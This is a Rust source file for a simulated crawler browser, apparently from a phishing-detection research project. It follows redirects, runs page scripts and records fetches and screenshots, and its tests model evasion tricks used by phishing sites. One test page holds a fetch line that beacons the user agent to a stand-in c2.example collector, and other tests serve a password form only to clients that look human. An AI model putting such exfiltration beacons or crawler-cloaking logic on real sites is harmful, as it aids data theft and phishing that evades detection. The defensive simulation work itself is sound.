//! The page-visiting engine.
//!
//! A [`Browser`] drives one crawler profile against the simulated internet:
//! request → parse → execute inline scripts → follow redirects (HTTP 3xx,
//! `location.href`, meta-refresh within the patience budget) → load
//! subresources → screenshot. The [`Visit`] record is CrawlerBox's raw
//! material: the paper logs "the visited domains, their associated TLS
//! certificates, corresponding IP addresses, as well as the requests and
//! responses exchanged with the browser" (§IV-C).

use crate::fingerprint::{BrowserFingerprint, ATTESTATION_HEADER};
use crate::hostimpl::{resolve_url, PageHost};
use crate::profiles::CrawlerProfile;
use cb_artifacts::fingerprint::fnv128;
use cb_artifacts::Bitmap;
use cb_json::{Deserialize, Serialize};
use cb_netsim::{FaultKind, HttpRequest, Internet, IpClass, Url, FAULT_HEADER, LATENCY_HEADER};
use cb_script::Script;
use cb_sim::SimDuration;
use cb_web::{render, Document};

/// Screenshot dimensions (the fixed viewport of the crawler).
pub const VIEWPORT: (usize, usize) = (480, 320);

/// Redirect-hop ceiling.
pub const MAX_HOPS: usize = 8;

/// Default per-visit simulated-time budget. Generous on purpose: under the
/// bounded-fault model a supervised visit always recovers well within it,
/// so [`VisitOutcome::Timeout`] signals genuinely pathological latency.
pub const DEFAULT_VISIT_BUDGET: SimDuration = SimDuration::minutes(30);

/// How a visit ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum VisitOutcome {
    /// A page loaded and was screenshotted.
    Loaded,
    /// DNS failure / dead host (the §V "error pages" class).
    Unreachable,
    /// The server answered with an HTTP error.
    HttpError(u16),
    /// Redirects exceeded [`MAX_HOPS`].
    RedirectLoop,
    /// The final page demands interaction the crawler cannot perform
    /// (traditional CAPTCHA, document viewers — the §V 4.5% class).
    InteractionRequired,
    /// The final page triggered a file download instead of rendering.
    Download,
    /// The visit's simulated-time budget was exhausted by fault latency.
    Timeout,
    /// A transport-level transient fault ended the visit (no HTTP response).
    NetError(FaultKind),
    /// The response body was cut short of its declared `Content-Length`.
    Truncated,
}

/// The full record of one crawl.
#[derive(Debug)]
pub struct Visit {
    /// What the pipeline asked for.
    pub requested_url: Url,
    /// `(url, status)` for every navigation hop, in order.
    pub chain: Vec<(Url, u16)>,
    /// Final status code.
    pub status: u16,
    /// The final parsed document (when HTML loaded).
    pub document: Option<Document>,
    /// Screenshot of the final page, not yet rasterized: the page source
    /// it is a pure function of. A visit whose pixels nobody reads (a
    /// superseded retry attempt or gate page) never pays for them.
    pub screenshot: Option<Screenshot>,
    /// Console output from page scripts.
    pub console: Vec<String>,
    /// `document.write` payloads.
    pub writes: Vec<String>,
    /// `(url, status)` of subresource loads (images, scripts, frames) —
    /// where the §V-A hotlinking observation lives.
    pub subresources: Vec<(Url, u16)>,
    /// `(url, body, status)` of script-initiated fetches (C2 exfiltration).
    pub exfil: Vec<(String, String, u16)>,
    /// Scripts hijacked a console method.
    pub console_hijacked: bool,
    /// `debugger;` statements executed.
    pub debugger_hits: usize,
    /// Timer delays scripts requested (ms).
    pub timer_delays: Vec<f64>,
    /// How it ended.
    pub outcome: VisitOutcome,
    /// Simulated time the visit consumed (fault stalls and declared
    /// first-byte latency; the reliable path costs zero).
    pub elapsed: SimDuration,
    /// Structured provenance of every transient fault observed during the
    /// visit — navigation hops, subresources and script fetches. Non-empty
    /// means the visit saw adversity (even if it recovered) and a
    /// supervisor should consider retrying.
    pub transient_failures: Vec<String>,
    /// `Retry-After` from a 429/503 final response, in seconds.
    pub retry_after: Option<u32>,
}

/// A screenshot of a loaded page at the crawler's [`VIEWPORT`], held as
/// the page source it rasterizes: the final HTML with each
/// `document.write` payload appended as a `<p>`. The pixels are a pure
/// function of that source, so [`key`](Screenshot::key) names a shot
/// without drawing it, and [`render`](Screenshot::render) draws it on
/// demand.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Screenshot {
    source: String,
}

impl Screenshot {
    /// The screenshot of the page `source` renders to.
    pub(crate) fn of(source: String) -> Screenshot {
        Screenshot { source }
    }

    /// The page key: `fnv128` of the source. Equal sources give equal
    /// keys and equal pixels; different sources may still draw the same
    /// pixels (scripts and metadata are invisible).
    pub fn key(&self) -> u128 {
        fnv128(self.source.as_bytes())
    }

    /// Rasterize the page at [`VIEWPORT`].
    pub fn render(&self) -> Bitmap {
        render::rasterize(&Document::parse(&self.source), VIEWPORT.0, VIEWPORT.1)
    }
}

impl Visit {
    /// The URL of the final hop (requested URL when nothing loaded).
    pub fn final_url(&self) -> &Url {
        self.chain
            .last()
            .map(|(u, _)| u)
            .unwrap_or(&self.requested_url)
    }

    /// `true` when the final document shows a credential form.
    pub fn shows_login_form(&self) -> bool {
        self.document
            .as_ref()
            .map(|d| d.has_password_field())
            .unwrap_or(false)
    }
}

/// A browser bound to one crawler profile.
#[derive(Debug, Clone)]
pub struct Browser {
    profile: CrawlerProfile,
    fingerprint: BrowserFingerprint,
    /// Longest meta-refresh delay (seconds) the crawler waits out. The
    /// paper: "some security crawlers do not wait enough time before the
    /// page is reloaded with malicious content".
    patience_secs: u32,
}

impl Browser {
    /// A browser for `profile` with that profile's own wait budget
    /// ([`CrawlerProfile::patience_secs`]).
    pub fn new(profile: CrawlerProfile) -> Browser {
        Browser {
            profile,
            fingerprint: profile.fingerprint(),
            patience_secs: profile.patience_secs(),
        }
    }

    /// Override the wait budget (naive crawlers time out quickly; patient
    /// adaptive arms wait out long delayed reveals).
    pub fn with_patience(mut self, secs: u32) -> Browser {
        self.patience_secs = secs;
        self
    }

    /// The current wait budget in seconds.
    pub fn patience_secs(&self) -> u32 {
        self.patience_secs
    }

    /// Replace the presented fingerprint wholesale. This is the adaptive
    /// crawler's mutation point: an arm starts from a profile's fingerprint
    /// and swaps one axis (UA family, IP egress class) before visiting.
    pub fn with_fingerprint(mut self, fingerprint: BrowserFingerprint) -> Browser {
        self.fingerprint = fingerprint;
        self
    }

    /// The driving profile.
    pub fn profile(&self) -> CrawlerProfile {
        self.profile
    }

    /// The presented fingerprint.
    pub fn fingerprint(&self) -> &BrowserFingerprint {
        &self.fingerprint
    }

    fn build_request(&self, url: &Url, attempt: u32) -> HttpRequest {
        let target = url.to_string();
        let mut req = HttpRequest::get(&target);
        req.set_header("Host", &url.host);
        req.set_header("User-Agent", &self.fingerprint.user_agent);
        req.set_header(
            "Accept-Language",
            &format!("{},en;q=0.9", self.fingerprint.language),
        );
        if self.fingerprint.cache_header_anomaly {
            // The interception artifact: Cache-Control + Pragma on every
            // request (what made early NotABot identifiable).
            req.set_header("Cache-Control", "no-cache");
            req.set_header("Pragma", "no-cache");
        }
        req.set_header(
            ATTESTATION_HEADER,
            &self.fingerprint.attestation().to_header_value(),
        );
        // Deterministic egress address: a pure function of (class, target,
        // attempt). Servers that echo the client address (httpbin-style
        // exfil beacons) then see the same bytes no matter how many
        // requests other scans issued first — which is what keeps
        // work-stealing batch scans bit-identical to serial ones.
        req.client_ip = self.fingerprint.ip_class.egress_ip(&target, attempt);
        req.attempt = attempt;
        req.tls = self.fingerprint.tls;
        req
    }

    /// Visit `url` on `net`, following redirects and executing scripts.
    /// Equivalent to [`Browser::visit_attempt`] with attempt 0 and the
    /// default budget.
    ///
    /// # Panics
    ///
    /// Panics if `url` is not a valid absolute URL.
    pub fn visit(&self, net: &Internet, url: &str) -> Visit {
        self.visit_attempt(net, url, 0, DEFAULT_VISIT_BUDGET)
    }

    /// Visit `url` as retry number `attempt` under a simulated-time
    /// `budget`. The attempt index is stamped on every request the visit
    /// makes (navigation, subresources, script fetches), which is how the
    /// deterministic fault injector knows a flaky URL has been retried
    /// enough to recover.
    ///
    /// # Panics
    ///
    /// Panics if `url` is not a valid absolute URL.
    pub fn visit_attempt(
        &self,
        net: &Internet,
        url: &str,
        attempt: u32,
        budget: SimDuration,
    ) -> Visit {
        cb_telemetry::with_active(|t| {
            t.begin(
                "browser.visit",
                vec![("url", url.to_string()), ("attempt", attempt.to_string())],
            );
        });
        let visit = self.visit_attempt_inner(net, url, attempt, budget);
        cb_telemetry::with_active(|t| {
            t.instant(
                "browser.result",
                vec![
                    ("outcome", format!("{:?}", visit.outcome)),
                    ("status", visit.status.to_string()),
                    ("hops", visit.chain.len().to_string()),
                    ("faults", visit.transient_failures.len().to_string()),
                ],
            );
            // The visit's sim-time cost moves the scan-local clock: every
            // event after this one happens at least `elapsed` later.
            t.advance(visit.elapsed.as_seconds());
            t.end();
        });
        visit
    }

    /// The uninstrumented engine behind [`Browser::visit_attempt`].
    fn visit_attempt_inner(
        &self,
        net: &Internet,
        url: &str,
        attempt: u32,
        budget: SimDuration,
    ) -> Visit {
        let requested = Url::parse(url).expect("visit requires a valid absolute url");
        let mut visit = Visit {
            requested_url: requested.clone(),
            chain: Vec::new(),
            status: 0,
            document: None,
            screenshot: None,
            console: Vec::new(),
            writes: Vec::new(),
            subresources: Vec::new(),
            exfil: Vec::new(),
            console_hijacked: false,
            debugger_hits: 0,
            timer_delays: Vec::new(),
            outcome: VisitOutcome::Unreachable,
            elapsed: SimDuration::ZERO,
            transient_failures: Vec::new(),
            retry_after: None,
        };

        let mut current = requested;
        for _hop in 0..MAX_HOPS {
            let nav_req = self.build_request(&current, attempt);
            let resp = match net.try_request(nav_req) {
                Ok(resp) => resp,
                Err(err) => {
                    visit.elapsed = visit.elapsed + err.latency;
                    visit.chain.push((current.clone(), 0));
                    visit.status = 0;
                    visit
                        .transient_failures
                        .push(format!("nav {current}: {err}"));
                    visit.outcome = if visit.elapsed > budget {
                        VisitOutcome::Timeout
                    } else {
                        VisitOutcome::NetError(err.kind)
                    };
                    return visit;
                }
            };
            if let Some(secs) = resp
                .header(LATENCY_HEADER)
                .and_then(|v| v.parse::<i64>().ok())
            {
                visit.elapsed = visit.elapsed + SimDuration::seconds(secs);
            }
            if let Some(kind) = resp.header(FAULT_HEADER) {
                visit
                    .transient_failures
                    .push(format!("nav {current}: {kind}"));
            }
            visit.chain.push((current.clone(), resp.status));
            visit.status = resp.status;

            if resp.status == 0 {
                visit.outcome = VisitOutcome::Unreachable;
                return visit;
            }
            if resp.is_redirect() {
                // is_redirect() guarantees a Location header; a bare 3xx
                // without one falls through to the HttpError arm below
                // rather than being invented as a redirect to "/".
                let location = resp.header("Location").expect("is_redirect checked");
                let target = resolve_url(&current, location);
                match Url::parse(&target) {
                    Ok(u) => {
                        current = u;
                        continue;
                    }
                    Err(_) => {
                        visit.outcome = VisitOutcome::HttpError(resp.status);
                        return visit;
                    }
                }
            }
            if !(200..300).contains(&resp.status) {
                visit.retry_after = resp.header("Retry-After").and_then(|v| v.parse().ok());
                visit.outcome = VisitOutcome::HttpError(resp.status);
                return visit;
            }
            if let Some(declared) = resp
                .header("Content-Length")
                .and_then(|v| v.parse::<usize>().ok())
            {
                if declared > resp.body.len() {
                    visit.transient_failures.push(format!(
                        "nav {current}: body truncated at {}/{declared}",
                        resp.body.len()
                    ));
                    visit.outcome = VisitOutcome::Truncated;
                    return visit;
                }
            }

            let content_type = resp.header("Content-Type").unwrap_or("text/html");
            if !content_type.starts_with("text/html") {
                visit.outcome = VisitOutcome::Download;
                return visit;
            }

            // Parse and execute.
            let html = resp.body_text();
            let doc = Document::parse(&html);
            let mut host = PageHost::new(net, &self.fingerprint, current.clone());
            host.attempt = attempt;
            for src in doc.inline_scripts() {
                if let Ok(script) = Script::parse(&src) {
                    // Script errors abort that script only, like a browser.
                    let _ = cb_script::run(&script, &mut host);
                }
            }
            visit.console.extend(host.console.clone());
            visit.writes.extend(host.writes.clone());
            visit.console_hijacked |= host.console_hijacked;
            visit.debugger_hits += host.debugger_hits;
            visit.timer_delays.extend(host.timer_delays.clone());
            visit.exfil.extend(host.fetches.iter().cloned());
            visit
                .transient_failures
                .extend(host.transient_failures.iter().cloned());
            visit.elapsed = visit.elapsed + host.fault_latency;

            // Script-driven navigation wins over meta refresh.
            if let Some(nav) = host.navigations.first() {
                let target = resolve_url(&current, nav);
                if let Ok(u) = Url::parse(&target) {
                    current = u;
                    continue;
                }
            }
            if let Some((delay, target)) = meta_refresh(&doc) {
                if delay <= self.patience_secs {
                    let target = resolve_url(&current, &target);
                    if let Ok(u) = Url::parse(&target) {
                        current = u;
                        continue;
                    }
                }
                // not patient enough: the pre-reveal page is what we see
            }

            // Final page: subresources, interaction check, screenshot.
            // Subresource requests carry the page as Referer — the signal
            // the paper recommends impersonated organizations monitor to
            // detect lookalikes hotlinking their assets (§V-A).
            for res in doc.resource_urls() {
                let target = resolve_url(&current, &res);
                if let Ok(u) = Url::parse(&target) {
                    let mut req = self.build_request(&u, attempt);
                    req.set_header("Referer", &current.to_string());
                    match net.try_request(req) {
                        Ok(resp) => {
                            if let Some(kind) = resp.header(FAULT_HEADER) {
                                visit
                                    .transient_failures
                                    .push(format!("subresource {u}: {kind}"));
                            }
                            visit.subresources.push((u, resp.status));
                        }
                        Err(err) => {
                            // A failed subresource never aborts the page;
                            // the note above lets a supervisor retry the
                            // whole visit for a clean capture.
                            visit.elapsed = visit.elapsed + err.latency;
                            visit
                                .transient_failures
                                .push(format!("subresource {u}: {err}"));
                            visit.subresources.push((u, 0));
                        }
                    }
                }
            }
            let interactive = doc
                .walk()
                .iter()
                .any(|n| n.attr("data-requires-interaction").is_some());
            visit.outcome = if interactive {
                VisitOutcome::InteractionRequired
            } else {
                VisitOutcome::Loaded
            };
            // document.write output becomes part of the rendered page.
            let mut source = html;
            for w in &host.writes {
                source.push_str(&format!("<p>{w}</p>"));
            }
            visit.screenshot = Some(Screenshot::of(source));
            visit.document = Some(doc);
            return visit;
        }
        visit.outcome = VisitOutcome::RedirectLoop;
        visit
    }
}

/// An egress address of the given class, freshly allocated from `net`'s
/// address space. Visits no longer use this (they present deterministic
/// per-request addresses via [`IpClass::egress_ip`], so concurrent scans
/// stay bit-identical to serial ones); it remains for callers that want an
/// allocation-ordered address.
pub fn ip_for_class(net: &Internet, class: IpClass) -> cb_netsim::IpAddress {
    net.allocate_ip(class)
}

/// Parse `<meta http-equiv=refresh content="N; url=...">` including the
/// delay (the client-side "bot behavior" delay cloaking of §III-B).
pub fn meta_refresh(doc: &Document) -> Option<(u32, String)> {
    for n in doc.elements("meta") {
        let is_refresh = n
            .attr("http-equiv")
            .map(|v| v.eq_ignore_ascii_case("refresh"))
            .unwrap_or(false);
        if !is_refresh {
            continue;
        }
        // A url-less refresh (plain reload, "content=\"300\"") must not end
        // the search: later tags may carry the real redirect.
        let Some(content) = n.attr("content") else {
            continue;
        };
        let (delay_part, rest) = content.split_once(';').unwrap_or((content, ""));
        let delay: u32 = delay_part.trim().parse().unwrap_or(0);
        let lower = rest.to_ascii_lowercase();
        if let Some(i) = lower.find("url=") {
            return Some((delay, rest[i + 4..].trim().to_string()));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_netsim::{HttpResponse, NetContext, SiteHandler};
    use cb_sim::SimTime;

    fn net_with(domain: &str, handler: impl SiteHandler + 'static) -> Internet {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain(domain, "REG");
        net.host(domain, handler);
        net
    }

    /// The eager screenshot the engine used to take: parse the page
    /// source and rasterize it at the viewport.
    fn eager_raster(source: &str) -> Bitmap {
        render::rasterize(&Document::parse(source), VIEWPORT.0, VIEWPORT.1)
    }

    #[test]
    fn simple_page_loads_with_screenshot() {
        const PAGE: &str = "<html><body><h1>Welcome</h1><p>text</p></body></html>";
        let net = net_with("site.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(PAGE)
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://site.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.status, 200);
        let shot = v.screenshot.expect("a loaded page has a screenshot");
        assert_eq!(shot, Screenshot::of(PAGE.to_string()));
        assert_eq!(shot.key(), fnv128(PAGE.as_bytes()));
        let bitmap = shot.render();
        assert_eq!((bitmap.width(), bitmap.height()), VIEWPORT);
        assert_eq!(bitmap, eager_raster(PAGE));
        assert_eq!(v.chain.len(), 1);
    }

    /// A lazy screenshot draws exactly what the eager raster of its page
    /// source drew, with and without `document.write` payloads, and its
    /// key depends on the source alone.
    #[test]
    fn screenshot_is_a_pure_function_of_the_page_source() {
        use cb_sim::prop::{check, one_of, string, vec};
        let payloads = one_of(&[
            "GO".to_string(),
            "targeted visitor".to_string(),
            "<b>reveal-form</b>".to_string(),
            "<div style=\"background-color:#c02030\">verify</div>".to_string(),
            "<input type=\"password\">".to_string(),
        ]);
        let strategy = (
            string("a-zA-Z0-9 ", 0..=24),
            one_of(&["", "background-color:#1040a0", "filter:hue-rotate(90deg)"]),
            vec(payloads, 0..3),
        );
        check("screenshot_source_purity", 24, strategy, purity_case);
    }

    /// Serve a page whose script writes `writes`, visit it twice, and check
    /// both screenshots against the source the engine used to rasterize
    /// eagerly: the page plus one `<p>` per payload.
    fn purity_case(
        (text, style, writes): (String, &'static str, Vec<String>),
    ) -> cb_sim::prop::CaseResult {
        use cb_sim::prop_assert_eq;
        let script: String = writes
            .iter()
            .map(|w| format!("document.write('{w}');"))
            .collect();
        let page = format!(
            "<html><body style=\"{style}\"><h1>{text}</h1><p>{text}</p>\
             <script>{script}</script></body></html>"
        );
        let served = page.clone();
        let net = net_with(
            "site.example",
            move |_: &HttpRequest, _: &NetContext<'_>| HttpResponse::html(&served),
        );
        let browser = Browser::new(CrawlerProfile::NotABot);
        let shoot = || browser.visit(&net, "https://site.example/").screenshot;
        let shot = shoot().ok_or("a loaded page has a screenshot")?;
        let mut source = page;
        for w in &writes {
            source.push_str(&format!("<p>{w}</p>"));
        }
        prop_assert_eq!(shot.render(), eager_raster(&source));
        let expected = Screenshot::of(source);
        prop_assert_eq!(shot, expected);
        prop_assert_eq!(shoot().map(|s| s.key()), Some(expected.key()));
        Ok(())
    }

    #[test]
    fn dead_domain_is_unreachable() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://gone.example/x");
        assert_eq!(v.outcome, VisitOutcome::Unreachable);
        assert_eq!(v.status, 0);
    }

    #[test]
    fn http_redirects_are_followed() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("hop1.example", "REG");
        net.register_domain("hop2.example", "REG");
        net.host("hop1.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::redirect("https://hop2.example/land")
        });
        net.host("hop2.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>landed</p>")
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://hop1.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.chain.len(), 2);
        assert_eq!(v.final_url().host, "hop2.example");
    }

    #[test]
    fn redirect_loops_are_bounded() {
        let net = net_with("loop.example", |req: &HttpRequest, _: &NetContext<'_>| {
            let n: u32 = req
                .url
                .query_param("n")
                .and_then(|v| v.parse().ok())
                .unwrap_or(0);
            HttpResponse::redirect(&format!("https://loop.example/?n={}", n + 1))
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://loop.example/");
        assert_eq!(v.outcome, VisitOutcome::RedirectLoop);
        assert_eq!(v.chain.len(), MAX_HOPS);
    }

    #[test]
    fn script_navigation_is_followed() {
        let net = net_with("js.example", |req: &HttpRequest, _: &NetContext<'_>| {
            if req.url.path == "/" {
                HttpResponse::html(r#"<script>location.href = "/landing";</script>"#)
            } else {
                HttpResponse::html("<p>final</p>")
            }
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://js.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.final_url().path, "/landing");
    }

    #[test]
    fn meta_refresh_respects_patience() {
        let net = net_with("delay.example", |req: &HttpRequest, _: &NetContext<'_>| {
            if req.url.path == "/revealed" {
                HttpResponse::html("<p>the real content</p>")
            } else {
                HttpResponse::html(
                    r#"<html><head><meta http-equiv="refresh" content="30; url=/revealed"></head>
                       <body><p>benign placeholder</p></body></html>"#,
                )
            }
        });
        // Patient crawler follows the delayed reveal.
        let patient = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://delay.example/");
        assert_eq!(patient.final_url().path, "/revealed");
        // Impatient crawler sees only the placeholder.
        let hasty = Browser::new(CrawlerProfile::Kangooroo)
            .with_patience(5)
            .visit(&net, "https://delay.example/");
        assert_eq!(hasty.final_url().path, "/");
        assert!(hasty
            .document
            .unwrap()
            .visible_text()
            .contains("benign placeholder"));
    }

    #[test]
    fn subresources_are_fetched_and_logged() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("corp.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<img src="https://corp.example/logo.png"><p>login</p>"#)
        });
        net.host("corp.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("image/png", vec![0x89, b'P', b'N', b'G'])
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.subresources.len(), 1);
        assert_eq!(v.subresources[0].0.host, "corp.example");
        assert_eq!(v.subresources[0].1, 200);
    }

    #[test]
    fn interaction_marker_classifies_visit() {
        let net = net_with("captcha.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<div data-requires-interaction="captcha">solve me</div>"#)
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://captcha.example/");
        assert_eq!(v.outcome, VisitOutcome::InteractionRequired);
    }

    #[test]
    fn download_outcome_for_non_html() {
        let net = net_with("files.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("application/zip", b"PK\x03\x04".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://files.example/a.zip");
        assert_eq!(v.outcome, VisitOutcome::Download);
    }

    #[test]
    fn server_sees_profile_user_agent_and_attestation() {
        let net = net_with("probe.example", |req: &HttpRequest, _: &NetContext<'_>| {
            let report = crate::fingerprint::ChallengeReport::from_request(req)
                .expect("attestation attached");
            if report.webdriver_visible || req.user_agent().contains("HeadlessChrome") {
                HttpResponse::html("<p>benign</p>")
            } else {
                HttpResponse::html("<form action=/c><input type=password name=p></form>")
            }
        });
        let bot = Browser::new(CrawlerProfile::Kangooroo).visit(&net, "https://probe.example/");
        assert!(!bot.shows_login_form());
        let stealthy = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://probe.example/");
        assert!(stealthy.shows_login_form());
    }

    #[test]
    fn exfil_fetches_are_recorded() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("c2.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(
                r#"<script>fetch("https://c2.example/collect", navigator.userAgent);</script><p>x</p>"#,
            )
        });
        net.host("c2.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"ok".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.exfil.len(), 1);
        assert!(v.exfil[0].1.contains("Chrome"));
    }

    #[test]
    fn transport_fault_yields_net_error_with_provenance() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("flaky.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>fine</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "flaky.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::ConnectionReset],
                ..Default::default()
            },
        ));
        let b = Browser::new(CrawlerProfile::NotABot);
        let v = b.visit_attempt(&net, "https://flaky.example/", 0, DEFAULT_VISIT_BUDGET);
        assert_eq!(
            v.outcome,
            VisitOutcome::NetError(cb_netsim::FaultKind::ConnectionReset)
        );
        assert_eq!(v.status, 0);
        assert!(!v.transient_failures.is_empty());
        assert!(v.elapsed > cb_sim::SimDuration::ZERO);
        // A late-enough retry recovers the page exactly.
        let v = b.visit_attempt(&net, "https://flaky.example/", 4, DEFAULT_VISIT_BUDGET);
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert!(v.transient_failures.is_empty());
    }

    #[test]
    fn truncated_body_is_its_own_outcome() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("cut.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>whole</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "cut.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::TruncatedBody],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://cut.example/");
        assert_eq!(v.outcome, VisitOutcome::Truncated);
        assert!(v.transient_failures.iter().any(|n| n.contains("truncated")));
    }

    #[test]
    fn slow_first_byte_exhausts_a_small_budget() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("slow.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>late</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "slow.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::SlowFirstByte],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit_attempt(
            &net,
            "https://slow.example/",
            0,
            cb_sim::SimDuration::seconds(3),
        );
        assert_eq!(v.outcome, VisitOutcome::Timeout);
    }

    #[test]
    fn rate_limit_surfaces_retry_after() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("busy.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>open</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "busy.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::RateLimited],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://busy.example/");
        assert_eq!(v.outcome, VisitOutcome::HttpError(429));
        assert_eq!(v.retry_after, Some(5));
        assert!(!v.transient_failures.is_empty());
    }

    #[test]
    fn recovered_subresource_fault_is_noted_not_fatal() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("cdn.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<img src="https://cdn.example/a.png"><p>x</p>"#)
        });
        net.host("cdn.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("image/png", vec![1])
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "cdn.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::DnsTimeout],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded, "page itself still loads");
        assert_eq!(v.subresources[0].1, 0);
        assert!(
            v.transient_failures
                .iter()
                .any(|n| n.contains("subresource")),
            "supervisor sees the evidence: {:?}",
            v.transient_failures
        );
    }

    #[test]
    fn meta_refresh_parser() {
        let doc = Document::parse(
            r#"<meta http-equiv="Refresh" content="7; URL=https://next.example/p">"#,
        );
        assert_eq!(
            meta_refresh(&doc),
            Some((7, "https://next.example/p".to_string()))
        );
        assert_eq!(meta_refresh(&Document::parse("<p>n</p>")), None);
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;
    use cb_netsim::{HttpResponse, NetContext};
    use cb_sim::SimTime;

    #[test]
    fn url_less_meta_refresh_does_not_mask_the_real_one() {
        let doc = Document::parse(
            r#"<meta http-equiv="refresh" content="300">
               <meta http-equiv="refresh" content="0; url=/revealed">"#,
        );
        assert_eq!(meta_refresh(&doc), Some((0, "/revealed".to_string())));
    }

    #[test]
    fn redirect_without_location_is_an_http_error_not_a_root_visit() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("bare301.example", "REG");
        net.host("bare301.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse {
                status: 301,
                headers: Vec::new(),
                body: Vec::new(),
            }
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://bare301.example/x");
        assert_eq!(v.outcome, VisitOutcome::HttpError(301));
        assert_eq!(v.chain.len(), 1, "no invented hop to /");
    }
}
